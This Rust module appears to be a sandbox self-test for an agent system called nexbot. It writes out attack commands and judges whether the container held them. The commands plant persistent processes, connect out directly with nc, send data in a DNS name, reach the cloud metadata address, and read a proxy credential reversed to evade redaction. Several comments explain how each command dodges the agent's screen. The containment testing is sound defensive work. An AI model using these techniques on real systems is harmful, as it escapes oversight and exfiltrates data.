//! Each attack: the shell command a task runs (busybox `sh`, as a model's would) and the judge
//! that reads its output. Plain functions of text, so each judge is tested on the outputs a
//! held and a broken wall give.
//!
//! The commands never write a sensitive word literally where the attack's own process would
//! show it (`ps` would find the checker itself); they build it at run time, as an injected
//! command evading the subagent's screen would (the screen is not the wall being tested).

use std::net::IpAddr;

use crate::report::{Line, Outcome};

/// The marker everything an attack plants carries: `nexbot-selftest-<nonce>`.
pub fn marker(nonce: &str) -> String {
    format!("nexbot-selftest-{nonce}")
}

/// The implant's thread name (`comm`, at most 15 bytes): `nxst-` and the nonce's start.
pub fn implant_name(nonce: &str) -> String {
    format!("nxst-{}", nonce.chars().take(10).collect::<String>())
}

/// The implant's System V segment key, from the nonce (never 0, `IPC_PRIVATE`).
pub fn implant_key(nonce: &str) -> i32 {
    let start: String = nonce.chars().take(8).collect();
    match u32::from_str_radix(&start, 16).map(|k| k as i32) {
        Ok(0) | Err(_) => 0x6e78_7374,
        Ok(key) => key,
    }
}

/// Plants what must not survive into the next task: a `setsid` loop (out of the command's
/// process group, so the tool's own group kill misses it), the image's `selftest-implant` (a
/// thread group whose leader exited, holding a System V segment), and files in `/dev/shm`,
/// `/tmp` and the working folder; then checks, in the same task, that each is there (the
/// positive control: a plant that never lived proves nothing when it is gone).
pub fn plant(nonce: &str) -> String {
    let m = marker(nonce);
    let (name, key) = (implant_name(nonce), implant_key(nonce));
    format!(
        "setsid sh -c 'while :; do sleep 1; done # {m}' </dev/null >/dev/null 2>&1 & \
         setsid selftest-implant {name} {key} </dev/null >/dev/null 2>&1 & \
         for f in /dev/shm/{m} /tmp/{m} ./{m}; do echo {m} > $f; done; sleep 0.5; \
         for c in /proc/[0-9]*/task/*/comm; do [ \"$(cat $c 2>/dev/null)\" = {name} ] && echo 'implant alive'; done; \
         awk '$1 == {key} {{print \"segment planted\"}}' /proc/sysvipc/shm 2>/dev/null; \
         ls /dev/shm/{m} /tmp/{m} ./{m} && echo planted"
    )
}

/// Looks for the planted processes, segment and files from the next task.
pub fn look_for_plants(nonce: &str) -> String {
    let (name, key) = (implant_name(nonce), implant_key(nonce));
    // `[n]exbot…` as the pattern: this command's own arguments never match it; the implant
    // is found by its thread's name, which no command line shows.
    format!(
        "m=nexbot-self; m=${{m}}test-{nonce}; ps -o pid,args | grep '[n]exbot-selftest-{nonce}'; \
         for c in /proc/[0-9]*/task/*/comm; do [ \"$(cat $c 2>/dev/null)\" = {name} ] && echo \"alive: $c (the implant)\"; done; \
         awk '$1 == {key} {{print \"left: System V segment \" $1 \" (id \" $2 \")\"}}' /proc/sysvipc/shm 2>/dev/null; \
         for f in /dev/shm/$m /tmp/$m ./$m; do [ -e $f ] && echo \"left: $f\"; done; \
         echo looked"
    )
}

/// The two lines of the clean room: the processes, and what was left for the next task (files,
/// IPC).
pub fn judge_plants(planted: &str, looked: &str) -> [Line; 2] {
    const PROCESS: (&str, &str) = (
        "clean_room.process",
        "a setsid loop and a thread group whose leader exited, planted to outlive their task",
    );
    const FILES: (&str, &str) = (
        "clean_room.files",
        "files in /dev/shm, /tmp and the working folder and a System V segment left",
    );
    let not_run = |why: String| {
        [
            Line::new(PROCESS.0, PROCESS.1, Outcome::NotRun, why.clone()),
            Line::new(FILES.0, FILES.1, Outcome::NotRun, why),
        ]
    };
    if !planted.contains("planted") {
        return not_run(format!("the planting task did not plant: {planted}"));
    }
    if !looked.contains("looked") {
        return not_run(format!("the next task did not look: {looked}"));
    }
    // What the plant's own check saw: an implant that never ran is said, not counted.
    let mut unplanted = Vec::new();
    if !planted.contains("implant alive") {
        unplanted.push("the implant did not start here");
    }
    if !planted.contains("segment planted") {
        unplanted.push("no System V segment could be made here");
    }
    let note = match unplanted.is_empty() {
        true => String::new(),
        false => format!(" ({})", unplanted.join("; ")),
    };
    let alive: Vec<&str> = looked
        .lines()
        .filter(|l| l.contains("nexbot-selftest-") || l.starts_with("alive:"))
        .filter(|l| !l.trim_start().starts_with("left:"))
        .collect();
    let left: Vec<&str> = looked.lines().filter(|l| l.trim_start().starts_with("left:")).collect();
    let process = if alive.is_empty() {
        let evidence = format!("gone when the next task began (ps, every thread's name){note}");
        Line::new(PROCESS.0, PROCESS.1, Outcome::Held, evidence)
    } else {
        let evidence = format!("still running in the next task: {}", alive.join("; "));
        Line::new(PROCESS.0, PROCESS.1, Outcome::Broken, evidence)
    };
    let files = if left.is_empty() {
        let evidence = format!("none was there for the next task{note}");
        Line::new(FILES.0, FILES.1, Outcome::Held, evidence)
    } else {
        Line::new(FILES.0, FILES.1, Outcome::Broken, left.join("; "))
    };
    [process, files]
}

/// Reads a byte of the subagent's memory through `/proc/1/mem`.
pub const PROC_MEM: &str = "head -c 1 /proc/1/mem > /dev/null; echo \"rc=$?\"";

pub fn judge_proc_mem(output: &str) -> Line {
    let (name, attack) = ("container.proc_mem", "reading the subagent's memory (/proc/1/mem)");
    match exit_code(output) {
        None => Line::new(name, attack, Outcome::NotRun, output),
        Some(0) => Line::new(name, attack, Outcome::Broken, "a byte of /proc/1/mem was read"),
        Some(_) => {
            let why = stderr_or(output, "refused");
            Line::new(name, attack, Outcome::Held, why)
        }
    }
}

/// Connects straight to `port` of each address, no proxy (`nc`, as a model's command would):
/// the host's own listener counts what arrives.
pub fn direct(addrs: &[IpAddr], port: u16) -> String {
    let mut command = String::new();
    for addr in addrs {
        // All at once: a dropped connection costs the whole timeout.
        command.push_str(&format!(
            "(timeout 4 nc {addr} {port} < /dev/null 2>&1; echo \"{addr} rc=$?\") & "
        ));
    }
    command.push_str("wait");
    command
}

/// `arrived`: connections the host's listener accepted while the attack ran.
pub fn judge_direct(output: &str, addrs: &[IpAddr], port: u16, arrived: usize) -> Line {
    let (name, attack) = ("egress.direct", "reaching the host without the proxy (direct IP)");
    let listed: Vec<String> = addrs.iter().map(IpAddr::to_string).collect();
    if arrived > 0 {
        let evidence = format!(
            "{arrived} connection(s) reached the host's listener on port {port} (tried {})",
            listed.join(", ")
        );
        return Line::new(name, attack, Outcome::Broken, evidence);
    }
    let codes: Vec<i32> = output
        .lines()
        .filter_map(|l| l.trim().rsplit_once(" rc=").and_then(|(_, c)| c.parse().ok()))
        .collect();
    // A tool that did not run (`Usage:`) proves nothing about the wall.
    if codes.len() < addrs.len() || output.contains("Usage:") || output.contains("not found") {
        return Line::new(name, attack, Outcome::NotRun, output);
    }
    if codes.contains(&0) {
        let evidence = format!(
            "a connection to port {port} was answered, not by the host's listener: {output}"
        );
        return Line::new(name, attack, Outcome::Broken, evidence);
    }
    // `Terminated`: `timeout` ended a connection nobody answered (the firewall's DROP).
    let how = match first_words(output).replace("Terminated", "").trim() {
        "" => "no answer within 4 s: dropped".to_owned(),
        words => words.split_whitespace().collect::<Vec<_>>().join(" "),
    };
    let evidence = format!(
        "nothing reached the host's listener on port {port} from {} ({how})",
        listed.join(", ")
    );
    Line::new(name, attack, Outcome::Held, evidence)
}

/// Looks up a name carrying data (the nonce), with the container's own resolver.
pub fn dns(nonce: &str) -> String {
    format!("timeout 8 nslookup {nonce}.data.nexbot-selftest.invalid 2>&1; echo \"rc=$?\"")
}

pub fn judge_dns(output: &str) -> Line {
    let (name, attack) = ("egress.dns", "a DNS name carrying data, without the proxy");
    match exit_code(output) {
        None => Line::new(name, attack, Outcome::NotRun, output),
        Some(0) => {
            Line::new(name, attack, Outcome::Broken, format!("a resolver answered: {output}"))
        }
        Some(_) => {
            Line::new(name, attack, Outcome::Held, format!("no resolver: {}", first_words(output)))
        }
    }
}

/// One request through the task's own proxy credential, written by hand (`nc`) so that the
/// proxy's status line and reason are read as they came; `timeout` seconds at most. `url`
/// and `host` may use the shell variables `setup` sets.
pub fn through_proxy(setup: &str, url: &str, host: &str, timeout: u32) -> String {
    by_hand(&format!("{setup}{OWN_CREDENTIAL}"), url, host, "", timeout)
}

/// Sets `$c` to the running task's proxy credential.
const OWN_CREDENTIAL: &str = "p=${HTTP_PROXY#http://}; c=${p%@*}; ";

/// The request of [`through_proxy`] with the credential `$c` that `setup` sets, and `extra`
/// header lines (`Name: value\r\n`, shell variables expanded; empty: none).
fn by_hand(setup: &str, url: &str, host: &str, extra: &str, timeout: u32) -> String {
    format!(
        "{setup}p=${{HTTP_PROXY#http://}}; h=${{p##*@}}; h=${{h%/}}; \
         auth=$(printf %s \"$c\" | base64 | tr -d '\\n'); \
         printf 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\nProxy-Authorization: Basic %s\\r\\n%bConnection: close\\r\\n\\r\\n' \
         \"{url}\" \"{host}\" \"$auth\" \"{extra}\" | timeout {timeout} nc ${{h%:*}} ${{h##*:}} 2>&1; \
         echo \"rc=$?\""
    )
}

/// The self-test's own secret, by name, sent where its binding does not name (a header of a
/// request to `localhost`, the secret bound to another host).
pub fn misplaced(name: &str) -> String {
    let extra = format!("X-Selftest: ${name}\\r\\n");
    by_hand(OWN_CREDENTIAL, "http://localhost/", "localhost", &extra, 6)
}

pub fn judge_misplaced(output: &str) -> Line {
    let (name, attack) = ("egress.placeholder", "a secret's placeholder sent outside its binding");
    match proxy_answer(output) {
        Some((403, reason)) if reason.contains("secret_") => {
            Line::new(name, attack, Outcome::Held, format!("403 {reason}"))
        }
        Some((code, reason)) => {
            let evidence = format!("not refused as a misplaced secret: {code} {reason}");
            Line::new(name, attack, Outcome::Broken, evidence)
        }
        None => {
            Line::new(name, attack, Outcome::NotRun, format!("no answer from the proxy: {output}"))
        }
    }
}

/// A task shows its own proxy credential, reversed: the subagent's redactor knows a secret's
/// encoded forms, not every transformation a command can make, and an injected task wanting
/// to use the proxy later, from a process left behind, would keep its credential so.
pub const REVEAL: &str = "p=${HTTP_PROXY#http://}; printf '%s\\n' \"${p%@*}\" | rev; echo revealed";

/// The credential a [`REVEAL`] task showed, turned the right way round.
pub fn revealed(output: &str) -> Option<String> {
    let lines: Vec<&str> = output.lines().map(str::trim).collect();
    let at = lines.iter().position(|l| *l == "revealed")?;
    let reversed = lines.get(at.checked_sub(1)?)?;
    let credential: String = reversed.chars().rev().collect();
    credential.contains(':').then_some(credential)
}

/// Between tasks, in the idle container (`docker exec`, as a process left behind would be):
/// a request through the proxy with the finished task's credential (or none).
pub fn idle_request(credential: Option<&str>) -> String {
    // The credential is the proxy URL's user information: letters, digits and `:`, `-`, `_`.
    let clean: String = credential
        .unwrap_or_default()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '-' | '_' | '.' | '%'))
        .collect();
    by_hand(&format!("c='{clean}'; "), "http://localhost/", "localhost", "", 6)
}

pub fn judge_idle(output: &str, had_credential: bool) -> Line {
    let (name, attack) =
        ("egress.idle", "the proxy from an idle container, with its last task's credential");
    let with =
        if had_credential { "" } else { " (the task's credential could not be read: none sent)" };
    match proxy_answer(output) {
        Some((_, reason)) if reason.contains("127.0.0.1") || reason.contains("::1") => {
            let evidence = format!("admitted while no task ran: {reason}{with}");
            Line::new(name, attack, Outcome::Broken, evidence)
        }
        Some((code @ (403 | 407), reason)) => {
            Line::new(name, attack, Outcome::Held, format!("{code} {reason}{with}"))
        }
        Some((code, reason)) => {
            Line::new(name, attack, Outcome::Broken, format!("the proxy answered {code}: {reason}"))
        }
        None => {
            Line::new(name, attack, Outcome::NotRun, format!("no answer from the proxy: {output}"))
        }
    }
}

/// The cloud metadata address, spelt at run time (the subagent's screen refuses it written).
pub fn metadata() -> String {
    through_proxy("t=169.254; t=$t.169.254; ", "http://$t/latest/meta-data/", "$t", 6)
}

/// The host's own address through the proxy: the listener counts what arrives.
pub fn host_via_proxy(addr: IpAddr, port: u16) -> String {
    let host = format!("{addr}:{port}");
    through_proxy("", &format!("http://{host}/"), &host, 6)
}

/// A name no rule allows, that resolves on any machine (`localhost`): the mode must hold it
/// (`ask`) or refuse it (`allowlist`) before it is looked up.
pub fn unallowed_name() -> String {
    through_proxy("", "http://localhost/", "localhost", 4)
}

/// The proxy's answer: its status code and its reason (`nexbot egress proxy: …`).
fn proxy_answer(output: &str) -> Option<(u16, String)> {
    let status = output.lines().find(|l| l.starts_with("HTTP/1."))?;
    let code = status.split_whitespace().nth(1)?.parse().ok()?;
    let reason = output
        .lines()
        .find(|l| l.starts_with("nexbot egress proxy:"))
        .map_or_else(|| status.trim().to_owned(), |l| l.trim().to_owned());
    Some((code, reason))
}

pub fn judge_metadata(output: &str) -> Line {
    let (name, attack) = ("egress.metadata", "the cloud metadata address through the proxy");
    refused_or_broken(name, attack, output, 0)
}

pub fn judge_host_via_proxy(output: &str, arrived: usize) -> Line {
    let (name, attack) = ("egress.host_address", "the host's own address through the proxy");
    refused_or_broken(name, attack, output, arrived)
}

fn refused_or_broken(name: &str, attack: &str, output: &str, arrived: usize) -> Line {
    if arrived > 0 {
        let evidence = format!("{arrived} connection(s) reached the host's listener");
        return Line::new(name, attack, Outcome::Broken, evidence);
    }
    match proxy_answer(output) {
        Some((403, reason)) => Line::new(name, attack, Outcome::Held, format!("403 {reason}")),
        Some((code, reason)) => {
            Line::new(name, attack, Outcome::Broken, format!("the proxy answered {code}: {reason}"))
        }
        None => {
            Line::new(name, attack, Outcome::NotRun, format!("no answer from the proxy: {output}"))
        }
    }
}

/// `mode`: the egress mode as configured (`ask`, `allowlist`, `open`).
pub fn judge_unallowed_name(output: &str, mode: &str) -> Line {
    let (name, attack) = ("egress.mode", "a destination no rule allows (the mode must hold it)");
    match proxy_answer(output) {
        // The answer names the address: the name was looked up (and would have been dialled,
        // were it public) with nobody's yes.
        Some((_, reason)) if reason.contains("127.0.0.1") || reason.contains("::1") => {
            let evidence = format!("egress.mode = {mode}: looked up with nobody's yes ({reason})");
            Line::new(name, attack, Outcome::Broken, evidence)
        }
        Some((403, reason)) => {
            Line::new(name, attack, Outcome::Held, format!("refused before any lookup: {reason}"))
        }
        Some((code, reason)) => {
            Line::new(name, attack, Outcome::Broken, format!("the proxy answered {code}: {reason}"))
        }
        // No answer within the timeout: held for a person's yes (`ask`).
        None if exit_code(output).is_some_and(|c| c != 0) && first_words(output).is_empty() => {
            Line::new(name, attack, Outcome::Held, "held for a person's yes (no answer within 4 s)")
        }
        None => Line::new(name, attack, Outcome::NotRun, output),
    }
}

/// Hunts the filesystem for another room's bait and the daemon's files by name.
pub fn hunt(names: &[String]) -> String {
    let wanted: Vec<String> = names.iter().map(|n| format!("-name '{n}'")).collect();
    format!(
        "timeout 20 find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \
         \\( {} \\) -print 2>/dev/null; echo hunted",
        wanted.join(" -o ")
    )
}

pub fn judge_hunt(output: &str, bait: &str) -> Line {
    let (name, attack) = ("files.other_rooms", "another room's files and the daemon's files");
    if !output.contains("hunted") {
        return Line::new(name, attack, Outcome::NotRun, output);
    }
    let found: Vec<&str> = output.lines().filter(|l| l.starts_with('/')).collect();
    if found.is_empty() {
        let evidence =
            format!("a search of the whole filesystem found neither {bait} (another room) nor the daemon's files");
        Line::new(name, attack, Outcome::Held, evidence)
    } else {
        Line::new(name, attack, Outcome::Broken, format!("found: {}", found.join(", ")))
    }
}

/// The `rc=N` a command printed last.
fn exit_code(output: &str) -> Option<i32> {
    output.lines().rev().find_map(|l| l.trim().strip_prefix("rc=")?.parse().ok())
}

/// The command's words before its `rc=`, or `default`.
fn stderr_or(output: &str, default: &str) -> String {
    let words = first_words(output);
    if words.is_empty() {
        default.to_owned()
    } else {
        words
    }
}

/// The output without the tool's own lines (`exit code:`, `--- stdout ---`) and `rc=` lines.
fn first_words(output: &str) -> String {
    output
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with("exit code:") && !l.starts_with("---"))
        .filter(|l| !l.starts_with("rc=") && !l.contains(" rc="))
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_plants_judge_tells_a_survivor_from_a_clean_room() {
        let planted =
            "exit code: 0\n--- stdout ---\nimplant alive\nsegment planted\n/dev/shm/x\nplanted";
        let clean = "exit code: 0\n--- stdout ---\nlooked";
        let [p, f] = judge_plants(planted, clean);
        assert_eq!((p.outcome, f.outcome), (Outcome::Held, Outcome::Held));
        let dirty = "exit code: 0\n--- stdout ---\n   41 sh -c while :; do sleep 1; done # nexbot-selftest-ab\nleft: /dev/shm/nexbot-selftest-ab\nlooked";
        let [p, f] = judge_plants(planted, dirty);
        assert_eq!((p.outcome, f.outcome), (Outcome::Broken, Outcome::Broken), "{p:?} {f:?}");
        assert!(p.evidence.contains("41 sh -c"), "{}", p.evidence);
        assert!(f.evidence.contains("/dev/shm/nexbot-selftest-ab"));
        let [p, _] = judge_plants("task failed: no container", clean);
        assert_eq!(p.outcome, Outcome::NotRun);
        // The leader-exited implant, found by its thread's name; the segment by its key.
        let implant = "alive: /proc/52/task/53/comm (the implant)\nleft: System V segment 1234 (id 7)\nlooked";
        let [p, f] = judge_plants(planted, implant);
        assert_eq!((p.outcome, f.outcome), (Outcome::Broken, Outcome::Broken));
        assert!(p.evidence.contains("/proc/52/task/53/comm"), "{}", p.evidence);
        assert!(f.evidence.contains("System V segment 1234"), "{}", f.evidence);
        // An implant that never started is said beside a held line, not hidden.
        let [p, _] = judge_plants("exit code: 0\nplanted", clean);
        assert_eq!(p.outcome, Outcome::Held);
        assert!(p.evidence.contains("the implant did not start here"), "{}", p.evidence);
    }

    #[test]
    fn the_implant_is_named_and_keyed_by_the_nonce() {
        assert_eq!(implant_name("0123456789abcdef"), "nxst-0123456789");
        assert!(implant_name("0123456789abcdef").len() <= 15);
        assert_eq!(implant_key("0000000a0000"), 10);
        assert_eq!(implant_key("ffffffff0000"), -1);
        assert_ne!(implant_key("00000000ffff"), 0, "never IPC_PRIVATE");
        let plant = plant("0123456789ab");
        assert!(plant.contains("setsid selftest-implant nxst-0123456789 19088743"), "{plant}");
    }

    #[test]
    fn the_checker_does_not_find_itself() {
        // Its own arguments, as `ps` shows them, must not match its pattern.
        let command = look_for_plants("ab12");
        assert!(!command.contains("nexbot-selftest-ab12"), "{command}");
        assert!(plant("ab12").contains("nexbot-selftest-ab12"));
    }

    #[test]
    fn direct_and_proxy_judges_read_the_listener_first() {
        let addrs: Vec<IpAddr> = vec!["172.18.0.1".parse().unwrap(), "10.0.0.5".parse().unwrap()];
        let timed_out = "172.18.0.1 rc=143\nnc: can't connect to remote host (10.0.0.5): Connection refused\n10.0.0.5 rc=1";
        assert_eq!(judge_direct(timed_out, &addrs, 4000, 0).outcome, Outcome::Held);
        assert_eq!(judge_direct(timed_out, &addrs, 4000, 1).outcome, Outcome::Broken);
        assert_eq!(judge_direct("172.18.0.1 rc=1", &addrs, 4000, 0).outcome, Outcome::NotRun);
        let unusable = "wget: unrecognized option\nUsage: wget\n172.18.0.1 rc=1\n10.0.0.5 rc=1";
        assert_eq!(judge_direct(unusable, &addrs, 4000, 0).outcome, Outcome::NotRun);
        let line = judge_direct(timed_out, &addrs, 4000, 0);
        assert!(line.evidence.contains("Connection refused"), "{}", line.evidence);
        let refused = "HTTP/1.1 403 Forbidden\r\ncontent-length: 9\r\n\r\nnexbot egress proxy: host_address: 172.18.0.1 is an address of this host\nrc=0";
        let line = judge_host_via_proxy(refused, 0);
        assert_eq!(line.outcome, Outcome::Held);
        assert!(
            line.evidence.starts_with("403 nexbot egress proxy: host_address"),
            "{}",
            line.evidence
        );
        assert_eq!(judge_host_via_proxy(refused, 2).outcome, Outcome::Broken);
        let served = "HTTP/1.1 200 OK\r\n\r\nami-id\nrc=0";
        assert_eq!(judge_metadata(served).outcome, Outcome::Broken);
        assert_eq!(judge_metadata("nc: can't connect\nrc=1").outcome, Outcome::NotRun);
    }

    #[test]
    fn the_mode_judge_tells_held_refused_and_looked_up_apart() {
        let held = "exit code: 0\n--- stdout ---\nrc=143";
        assert_eq!(judge_unallowed_name(held, "ask").outcome, Outcome::Held);
        let refused = "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: not_allowed: no egress.allow rule allows localhost\nrc=0";
        assert_eq!(judge_unallowed_name(refused, "allowlist").outcome, Outcome::Held);
        let looked_up =
            "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: loopback address 127.0.0.1\nrc=0";
        let line = judge_unallowed_name(looked_up, "open");
        assert_eq!(line.outcome, Outcome::Broken);
        assert!(line.evidence.contains("egress.mode = open"), "{}", line.evidence);
    }

    #[test]
    fn a_revealed_credential_is_read_back_and_the_idle_judge_tells_admitted_from_refused() {
        let output = "exit code: 0\n--- stdout ---\n321cba:tobxen\nrevealed";
        assert_eq!(revealed(output).as_deref(), Some("nexbot:abc123"));
        assert_eq!(revealed("exit code: 0\n--- stdout ---\n]DETCADER[\nrevealed"), None);
        assert!(idle_request(Some("nexbot:abc'; rm -rf x")).contains("c='nexbot:abcrm-rfx'"));
        let idle = "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: idle_container: no task runs in 172.18.0.2\nrc=0";
        let line = judge_idle(idle, true);
        assert_eq!(line.outcome, Outcome::Held);
        assert!(
            line.evidence.starts_with("403 nexbot egress proxy: idle_container"),
            "{}",
            line.evidence
        );
        let admitted =
            "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: loopback address 127.0.0.1\nrc=0";
        assert_eq!(judge_idle(admitted, true).outcome, Outcome::Broken);
        let no_auth = "HTTP/1.1 407 Proxy Authentication Required\r\n\r\nnexbot egress proxy: no credential\nrc=0";
        let line = judge_idle(no_auth, false);
        assert_eq!(line.outcome, Outcome::Held);
        assert!(line.evidence.contains("could not be read"), "{}", line.evidence);
    }

    #[test]
    fn a_misplaced_secret_holds_only_when_refused_as_one() {
        assert!(
            misplaced("NEXBOT_SELFTEST_KEY").contains("\"X-Selftest: $NEXBOT_SELFTEST_KEY\\r\\n\"")
        );
        let refused = "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: secret_not_bound: NEXBOT_SELFTEST_KEY may go only to selftest.invalid\nrc=0";
        assert_eq!(judge_misplaced(refused).outcome, Outcome::Held);
        // Refused for the address, not for the secret: the secret check did not stop it.
        let other =
            "HTTP/1.1 403 Forbidden\r\n\r\nnexbot egress proxy: loopback address 127.0.0.1\nrc=0";
        assert_eq!(judge_misplaced(other).outcome, Outcome::Broken);
    }

    #[test]
    fn proc_mem_dns_and_hunt_judges() {
        let refused = "exit code: 0\n--- stdout ---\nrc=1\n--- stderr ---\nhead: /proc/1/mem: Input/output error";
        let line = judge_proc_mem(refused);
        assert_eq!(line.outcome, Outcome::Held);
        assert!(line.evidence.contains("Input/output error"), "{}", line.evidence);
        assert_eq!(judge_proc_mem("rc=0").outcome, Outcome::Broken);
        let no_dns = ";; connection timed out; no servers could be reached\nrc=1";
        assert_eq!(judge_dns(no_dns).outcome, Outcome::Held);
        assert_eq!(judge_dns("Name: x\nAddress: 1.2.3.4\nrc=0").outcome, Outcome::Broken);
        assert_eq!(judge_hunt("hunted", "bait").outcome, Outcome::Held);
        assert_eq!(judge_hunt("/data/nexbot.db\nhunted", "bait").outcome, Outcome::Broken);
        assert_eq!(judge_hunt("task failed", "bait").outcome, Outcome::NotRun);
        assert!(hunt(&["a".into(), "b".into()]).contains("-name 'a' -o -name 'b'"));
    }
}
